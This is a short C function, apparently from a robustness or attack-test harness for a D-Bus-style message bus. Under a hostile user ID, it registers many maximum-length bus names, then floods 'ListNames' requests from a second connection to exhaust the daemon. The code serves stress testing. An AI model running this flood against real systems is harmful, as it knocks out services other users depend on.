/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>

#define LONGEST 255
#define LISTINGS 300

/* Long names, --count of them, listed without pause by a client that reads the replies. */
void name_listing(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0}, body = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&c);
    for (int i = 0; i < attack_options.count; i++) {
        char name[LONGEST + 1];
        int n = snprintf(name, sizeof(name), "org.example.N%d.", i);
        memset(name + n, 'x', sizeof(name) - (size_t)n - 1);
        name[LONGEST] = 0;
        out.size = body.size = 0;
        buffer_string(&body, name);
        buffer_u32(&body, 0);
        put_driver_call(&out, "RequestName", "su", &body);
        attack_pour(&c, &out);
    }
    process_ready();
    struct connection lister = {0};
    attack_join(&lister);
    out.size = 0;
    for (int i = 0; i < LISTINGS; i++)
        put_driver_call(&out, "ListNames", NULL, NULL);
    attack_flood(&lister, &out, LISTINGS);
}
